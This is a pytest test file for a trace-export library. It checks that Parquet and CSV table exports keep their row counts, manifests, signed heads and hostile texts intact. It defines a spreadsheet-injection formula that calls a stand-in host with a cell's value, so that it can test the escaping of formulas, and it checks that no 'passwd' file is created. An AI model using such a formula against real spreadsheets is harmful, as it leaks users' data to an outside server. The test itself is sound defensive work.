"""Parquet and CSV files, read back by pyarrow, DuckDB, pandas and csv: their counts are those of the log."""

from __future__ import annotations

import csv
import hashlib
import json
import stat
from pathlib import Path
from typing import Any

import duckdb
import pandas
import pyarrow.csv
import pyarrow.parquet
import pytest

import fgtrac
from fgtrac.api.export_tables import MANIFEST, export_tables
from fgtrac.api.summary import summarize
from fgtrac.query import view_exports
from fgtrac.query.view_schema import VIEWS
from fgtrac.store import durable
from fgtrac.tlog.note import verify_note
from hostile_trace import MARKED, TEXTS, make_hostile_trace
from lives import live
from model_traces import leave_pending, trace_with_models
from traces import DATASET

FORMULA = '=HYPERLINK("http://x.example/?"&A1)'


@pytest.fixture(autouse=True)
def _cache(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FGTRAC_CACHE", str(tmp_path_factory.getbasetemp() / "export cache"))


@pytest.fixture(scope="module")
def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return live(tmp_path_factory.mktemp("tables"), vault=True).path


@pytest.fixture(scope="module")
def truth(path: Path) -> dict[str, int]:
    """Rows of each table, counted without any of them."""
    summary, counts = summarize(path), fgtrac.open(path).sample_counts()
    assert counts.uses.sum() == summary.uses == 9
    in_batches = counts.uses.sum() + counts.neighbours.sum() + counts.deliveries.sum()
    rows = {"samples": len(counts), "uses": int(in_batches), "predictions": int(counts.predictions.sum())}
    rows |= {"checkpoints": summary.counts["checkpoint"], "entries": summary.size}
    rows |= {"contributions": sum(row["samples"] for row in summary.contributions)}
    return rows


def readers(form: str) -> dict[str, Any]:
    """Rows by each library that reads a file of this form."""
    if form == "parquet":
        return {
            "pyarrow": lambda p: pyarrow.parquet.read_table(p).to_pylist(),
            "duckdb": lambda p: duckdb.read_parquet(str(p)).fetchall(),
            "pandas": lambda p: pandas.read_parquet(p),
        }
    return {
        "pyarrow": lambda p: pyarrow.csv.read_csv(p).to_pylist(),
        "duckdb": lambda p: duckdb.read_csv(str(p), header=True).fetchall(),
        "pandas": lambda p: pandas.read_csv(p),
        "csv": lambda p: lines_of(p)[1:],
    }


def lines_of(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("form", ["parquet", "csv"])
def test_every_library_reads_as_many_rows_as_the_log_has(path: Path, truth, tmp_path: Path, form: str) -> None:
    done = {table.name: table for table in export_tables(path, tmp_path / "out", form)}
    assert list(done) == list(VIEWS)
    for name, rows in truth.items():
        assert done[name].rows == rows
        for library, read in readers(form).items():
            assert len(read(done[name].path)) == rows, (library, name)


@pytest.mark.parametrize("form", ["parquet", "csv"])
def test_each_sample_s_counts_are_those_of_the_log(path: Path, tmp_path: Path, form: str) -> None:
    export_tables(path, tmp_path / "out", form, tables=["samples", "uses"])
    samples, uses = (f"read_{form}('{tmp_path}/out/{name}.{form}')" for name in ("samples", "uses"))
    counted = "SELECT s.id, s.uses, count(u.step) FILTER (u.hop = 0)"
    asked = f"{counted} FROM {samples} s LEFT JOIN {uses} u USING (sample) GROUP BY ALL"
    found = {id: (uses, counted) for id, uses, counted in duckdb.sql(asked).fetchall()}
    assert found == {row["id"]: (row["uses"], row["uses"]) for row in fgtrac.open(path).sample_counts()}
    assert {p.name for p in (tmp_path / "out").iterdir()} == {f"samples.{form}", f"uses.{form}", MANIFEST, "README.md"}


def test_both_forms_say_the_same(path: Path, tmp_path: Path) -> None:
    for form in ("parquet", "csv"):
        export_tables(path, tmp_path / form, form)
    for name in VIEWS:
        rows = pyarrow.parquet.read_table(tmp_path / "parquet" / f"{name}.parquet").to_pylist()
        text = lines_of(tmp_path / "csv" / f"{name}.csv")
        assert text[0] == [column.name for column in VIEWS[name]]
        assert len(text) - 1 == len(rows)
        for row, cells in zip(rows, text[1:], strict=True):
            for column, cell in zip(VIEWS[name], cells, strict=True):
                value = row[column.name]
                if value is None:
                    assert cell == ""
                elif isinstance(value, str):
                    assert cell == value
                elif isinstance(value, list):
                    assert [float(v) for v in cell.strip("[]").split(",")] == pytest.approx(value)
                elif isinstance(value, (int, float)) and not isinstance(value, bool):
                    assert float(cell) == pytest.approx(value)


def test_the_signed_head_stands_in_each_parquet_file(path: Path, tmp_path: Path) -> None:
    export_tables(path, tmp_path / "out", "parquet")
    trace = fgtrac.open(path)
    head = trace._directory.head()
    for file in (tmp_path / "out").glob("*.parquet"):
        said = pyarrow.parquet.read_schema(file).metadata
        assert said[b"fgtrac.trace_id"].decode() == trace.id.hex()
        assert (int(said[b"fgtrac.size"]), said[b"fgtrac.root"].decode()) == (head.size, head.root.hex())
        assert said[b"fgtrac.tree_head"] == trace._directory.head_note()


def test_the_manifest_has_each_file_s_digest_and_the_signed_head(tmp_path: Path) -> None:
    life = live(tmp_path)
    export_tables(life.path, tmp_path / "out", "csv")
    said = json.loads((tmp_path / "out" / MANIFEST).read_bytes())
    verify_note(said["tree_head"]["note"].encode(), [life.made.verifier])
    assert set(said["tables"]) == set(VIEWS)
    for table in said["tables"].values():
        data = (tmp_path / "out" / table["file"]).read_bytes()
        assert (len(data), hashlib.sha256(data).hexdigest()) == (table["size"], table["sha256"])


@pytest.mark.parametrize("form", ["parquet", "csv"])
def test_names_are_written_only_when_they_are_asked_for(path: Path, tmp_path: Path, form: str) -> None:
    export_tables(path, tmp_path / "without", form)
    said = b"".join(file.read_bytes() for file in (tmp_path / "without").iterdir())
    assert f"{DATASET}:0".encode() not in said
    export_tables(path, tmp_path / "with", form, tables=["samples"], names=True)
    names, samples = (f"read_{form}('{tmp_path}/with/{name}.{form}')" for name in ("names", "samples"))
    found = duckdb.sql(f"SELECT name, uses FROM {samples} JOIN {names} USING (id)").fetchall()
    assert dict(found)[f"{DATASET}:0"] == 2
    assert stat.S_IMODE((tmp_path / "with" / f"names.{form}").stat().st_mode) == 0o600


def test_names_without_a_vault_or_unasked_are_refused(tmp_path: Path) -> None:
    life = live(tmp_path)
    with pytest.raises(ValueError, match="there is no vault beside"):
        export_tables(life.path, tmp_path / "out", "csv", names=True)
    with pytest.raises(ValueError, match="only --names writes"):
        export_tables(life.path, tmp_path / "out", "csv", tables=["names"])
    with pytest.raises(ValueError, match="there is no table 'users'; there are samples"):
        export_tables(life.path, tmp_path / "out", "csv", tables=["users"])
    assert not (tmp_path / "out").exists()


def test_a_formula_is_counted_and_stays_unless_it_is_for_a_spreadsheet() -> None:
    texts = [FORMULA, "+1", "-1", "@x", "\tx", 'a "quoted", text\nof two lines', "", None, "plain"]
    word = pyarrow.array(["=1", None, "x"] * 3).dictionary_encode()
    table = pyarrow.table({"text": texts, "word": word, "number": pyarrow.array([-1.5] * 9)})
    for for_spreadsheets, expected in (
        (False, texts),
        (True, ["'" + t if t and t[0] in "=+-@\t" else t for t in texts]),
    ):
        told = view_exports.Told()
        pieces = view_exports.csv_pieces(table.to_reader(), told, for_spreadsheets=for_spreadsheets)
        rows = list(csv.DictReader(b"".join(pieces).decode().splitlines(keepends=True)))
        assert [row["text"] for row in rows] == [t or "" for t in expected]
        assert [row["number"] for row in rows] == ["-1.5"] * 9  # a number is none
        assert (told.rows, told.formulas) == (9, 8)


def test_hostile_texts_come_back_as_they_were(tmp_path: Path) -> None:
    path = make_hostile_trace(tmp_path / "hostile", long=False)
    for form in ("parquet", "csv"):
        export_tables(path, tmp_path / form, form, names=True)
    vault = sorted(json.loads(name.partition(":key:")[2]) for name in fgtrac.open(path).sample_counts().names)
    names = pyarrow.parquet.read_table(tmp_path / "parquet" / "names.parquet").column("name").to_pylist()
    lines = lines_of(tmp_path / "csv" / "names.csv")[1:]
    for found in (names, [line[1] for line in lines]):
        assert sorted(json.loads(name.partition(":key:")[2]) for name in found) == vault == sorted([*TEXTS, *plain()])
    metrics = lines_of(tmp_path / "csv" / "metrics.csv")[1:]
    assert {line[3] for line in metrics} == set(TEXTS)
    assert [p for p in tmp_path.rglob("*") if p.name.startswith(("passwd", MARKED))] == []


def plain() -> list[str]:
    return [f"{MARKED}-{n}" for n in range(len(TEXTS), 23)] + [f"{MARKED}-last"]


@pytest.mark.parametrize("form", ["parquet", "csv"])
def test_a_long_table_is_written_in_groups(monkeypatch: pytest.MonkeyPatch, form: str) -> None:
    monkeypatch.setattr(view_exports, "GROUP_ROWS", 100)
    table = pyarrow.table(
        {"n": range(1000), "word": pyarrow.array([str(n % 7) for n in range(1000)]).dictionary_encode()}
    )
    told, reader = view_exports.Told(), table.to_reader(max_chunksize=64)
    if form == "parquet":
        pieces = list(view_exports.parquet_pieces(reader, {"k": "v"}, told))
        found = pyarrow.parquet.read_table(pyarrow.BufferReader(b"".join(pieces)))
        assert pyarrow.parquet.ParquetFile(pyarrow.BufferReader(b"".join(pieces))).num_row_groups == 8
    else:
        pieces = list(view_exports.csv_pieces(reader, told, for_spreadsheets=False))
        found = pyarrow.csv.read_csv(pyarrow.BufferReader(b"".join(pieces)))
    assert len(pieces) == 9
    assert found.column("n").to_pylist() == list(range(1000))
    assert [str(v) for v in found.column("word").to_pylist()] == [str(n % 7) for n in range(1000)]


def test_files_that_are_there_stay_unless_they_are_to_be_replaced(path: Path, tmp_path: Path) -> None:
    export_tables(path, tmp_path / "out", "csv", tables=["metrics"])
    before = (tmp_path / "out" / "metrics.csv").stat().st_mtime_ns
    with pytest.raises(FileExistsError, match="--force"):
        export_tables(path, tmp_path / "out", "csv", tables=["metrics"])
    assert (tmp_path / "out" / "metrics.csv").stat().st_mtime_ns == before
    export_tables(path, tmp_path / "out", "csv", tables=["metrics"], replace=True)
    with pytest.raises(FileNotFoundError, match="no folder"):
        export_tables(path, tmp_path / "no" / "out", "csv")
    with pytest.raises(ValueError, match="is a file"):
        export_tables(path, tmp_path / "out" / "metrics.csv", "csv")


def test_a_full_disk_leaves_no_half_file_and_no_manifest(path: Path, tmp_path: Path, monkeypatch) -> None:
    export_tables(path, tmp_path / "out", "parquet")
    whole = (tmp_path / "out" / "uses.parquet").read_bytes()
    write, written = durable._write, [0]

    def full(fd: int, data: memoryview) -> int:
        written[0] += len(data)
        if written[0] > 3000:
            raise OSError(28, "No space left on device")
        return write(fd, data)

    monkeypatch.setattr(durable, "_write", full)
    with pytest.raises(OSError, match="No space left"):
        export_tables(path, tmp_path / "out", "parquet", replace=True)
    assert (tmp_path / "out" / "uses.parquet").read_bytes() == whole
    assert not [p.name for p in (tmp_path / "out").iterdir() if p.name.endswith(".tmp") or p.name == MANIFEST]


@pytest.mark.parametrize("left", ["names.csv", "uses.parquet"])
def test_a_table_of_another_export_does_not_stay_beside_a_new_manifest(path: Path, tmp_path: Path, left: str) -> None:
    export_tables(path, tmp_path / "out", "csv", tables=["samples"])
    (tmp_path / "out" / left).write_text("of another export")
    before = {file.name: file.read_bytes() for file in (tmp_path / "out").iterdir()}
    with pytest.raises(FileExistsError, match=f"has {left} of another export, .*remove them, or name another folder"):
        export_tables(path, tmp_path / "out", "csv", tables=["samples"], replace=True)
    assert {file.name: file.read_bytes() for file in (tmp_path / "out").iterdir()} == before
    with pytest.raises(ValueError, match="lies in the trace"):
        export_tables(path, path / "out", "csv", replace=True)


def test_later_entries_are_named(tmp_path: Path) -> None:
    made = trace_with_models(tmp_path)
    export_tables(made.trace.path, tmp_path / "before", "csv", tables=["metrics"])
    leave_pending(made)
    export_tables(made.trace.path, tmp_path / "out", "csv", tables=["metrics"])
    words = "1 later entry is in no full seal yet"
    assert words not in (tmp_path / "before" / "README.md").read_text()
    assert words in (tmp_path / "out" / "README.md").read_text()
    assert json.loads((tmp_path / "out" / MANIFEST).read_bytes())["pending"] == 1
    trace = fgtrac.open(made.trace.path)
    for shown in (trace.samples(), trace.sql("SELECT 1 AS a")):
        assert words in shown._repr_html_()
